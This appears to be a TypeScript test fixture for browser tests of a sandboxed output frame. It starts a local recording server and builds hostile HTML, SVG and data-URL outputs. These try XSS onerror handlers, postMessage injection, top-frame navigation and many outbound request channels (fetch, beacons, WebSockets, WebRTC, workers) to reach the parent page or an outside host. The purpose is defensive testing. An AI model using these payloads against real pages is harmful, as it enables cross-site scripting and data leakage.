/**
 * Outputs that try to escape their sandboxed frame, and a server that records whether they reached it, for browser
 * tests.
 */

import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A foreign host that records every request, over TCP or UDP. */
export interface Outsider {
  readonly address: string;
  readonly stun: string;
  /** The requests received so far. */
  readonly met: readonly string[];
  close(): Promise<void>;
}

export async function startOutsider(): Promise<Outsider> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('met');
  });
  server.on('upgrade', (request, socket) => {
    requests.push(request.url ?? '');
    socket.destroy();
  });
  const udp = createSocket('udp4').on('message', () => requests.push('/stun'));
  server.listen(0, '127.0.0.1');
  udp.bind(0);
  await Promise.all([once(server, 'listening'), once(udp, 'listening')]);
  const { port } = server.address() as AddressInfo; // the server listens on TCP
  return {
    address: `http://127.0.0.1:${port}`,
    stun: `stun:127.0.0.1:${udp.address().port}`,
    met: requests,
    close: async () => {
      udp.close();
      server.closeAllConnections();
      await new Promise((closed) => server.close(closed));
    },
  };
}

/** The variable that a hostile output tries to set in a page that it must not reach. */
export const MARK = '__escaped';

/** The attempts of a script that runs; afterwards it adds `#ran`. */
function attempts({ address, stun }: Outsider): string {
  return `
    const attempt = (act) => { try { act(); } catch {} };
    for (const other of [top, parent, opener]) attempt(() => { other.${MARK} = 1; });
    attempt(() => parent.document.body.append('${MARK}'));
    attempt(() => { top.document.title = '${MARK}'; });
    attempt(() => parent.eval('window.${MARK} = 1'));
    attempt(() => { top.location = '${address}/top'; });
    attempt(() => { parent.location.hash = '${MARK}'; });
    attempt(() => window.open('${address}/open'));
    attempt(() => window.open('javascript:opener.top.${MARK}=1'));
    attempt(() => parent.postMessage({ kind: 'show', html: '<img src=x onerror="${MARK}=1">' }, '*'));
    attempt(() => fetch('${address}/fetch', { mode: 'no-cors' }).catch(() => {}));
    attempt(() => { const asked = new XMLHttpRequest(); asked.open('GET', '${address}/xhr'); asked.send(); });
    attempt(() => navigator.sendBeacon('${address}/beacon', 'x'));
    attempt(() => new EventSource('${address}/events'));
    attempt(() => new WebSocket('${address.replace('http', 'ws')}/socket'));
    attempt(() => import('${address}/import.js').catch(() => {}));
    attempt(() => { new Image().src = '${address}/image'; });
    attempt(() => new Worker(URL.createObjectURL(new Blob(['fetch("${address}/worker"); importScripts("${address}/imported")']))));
    attempt(() => {
      const call = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
      call.createDataChannel('x');
      call.createOffer().then((offer) => call.setLocalDescription(offer));
    });
    attempt(() => {
      const inner = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe');
      inner.srcdoc = '<img src="${address}/inner"><script>fetch("${address}/inner-fetch"); top.${MARK} = 1<' + '/script>';
      document.documentElement.append(inner);
    });
    attempt(() => {
      const link = document.createElementNS('http://www.w3.org/1999/xhtml', 'a');
      for (const target of ['_top', '_parent', '_blank']) {
        for (const href of ['javascript:top.${MARK}=1', '${address}/link']) {
          Object.assign(link, { href, target, ping: '${address}/ping' });
          link.click();
        }
      }
    });
    document.getElementById('ran').textContent = 'ran';`;
}

export function hostileHtml(outsider: Outsider): string {
  const { address } = outsider;
  return `
    <meta http-equiv="refresh" content="0;url=${address}/refresh"><base href="${address}/base/" target="_top">
    <link rel="stylesheet" href="${address}/sheet"><link rel="prefetch" href="${address}/prefetch">
    <link rel="preload" as="image" href="${address}/preload"><link rel="manifest" href="${address}/manifest">
    <style>@import url(${address}/import.css); body { background: url(${address}/background) }</style>
    <img src=x onerror="top.${MARK} = 1"><img src="${address}/img"><iframe src="${address}/frame"></iframe>
    <object data="${address}/object"></object><embed src="${address}/embed"><video poster="${address}/poster" src="${address}/video"></video>
    <form id="form" action="${address}/form" target="_top"><input name="a"></form><p id="ran">not run</p>
    <script src="${address}/script.js"></script><script type="module" src="${address}/module.js"></script>
    <iframe srcdoc="<script src='${address}/inner.js'></script><link rel=stylesheet href='${address}/inner.css'><img src='${address}/inner-img'><script>fetch('${address}/inner-fetch'); top.${MARK} = 1</script>"></iframe>
    <script>for (const [kind, name] of [['script', 'src'], ['link', 'href'], ['script', 'nodeName'], ['link', 'nodeName']]) {
      const made = Object.assign(document.createElement(kind), { rel: 'stylesheet' });
      if (name === 'nodeName') made.setAttributeNS(null, kind === 'link' ? 'href' : 'src', '${address}/by-attribute');
      else { made[name] = '${address}/by-property'; made.setAttribute(name, '${address}/by-set-attribute'); }
      document.head.append(made);
    }
    for (const wanted of ['${address}/wanted', '/v1/notebooks', location.origin + '/v1/notebooks/sessions'])
      parent.postMessage({ kind: 'want', id: 1, address: wanted }, '*');
    parent.postMessage({ kind: 'lacks', address: 'https://a/<img src=x onerror="window.${MARK} = 1">' }, '*');
    parent.postMessage({ kind: 'failed', why: '<img src=x onerror="window.${MARK} = 1">' }, '*');</script>
    <script>document.getElementById('form').submit();</script><script>${attempts(outsider)}</script>`;
}

export function hostileSvg(outsider: Outsider): string {
  const { address } = outsider;
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="top.${MARK} = 1">
    <image href="${address}/svg-image"/><use href="${address}/svg-use#a"/>
    <foreignObject><img src="${address}/foreign" onerror="top.${MARK} = 1"/></foreignObject>
    <animate onbegin="top.${MARK} = 1" attributeName="x" dur="1s"/><text id="ran">not run</text>
    <script xlink:href="${address}/svg-script"/><script><![CDATA[${attempts(outsider)}]]></script></svg>`;
}

/** An output that navigates to a document without a server's policy. */
export function hostileMove(outsider: Outsider): string {
  const inner = `<p id="ran">not run</p><script>${attempts(outsider)}</script>`;
  return `<script>location.href = 'data:text/html,' + ${JSON.stringify(encodeURIComponent(inner))};</script>`;
}
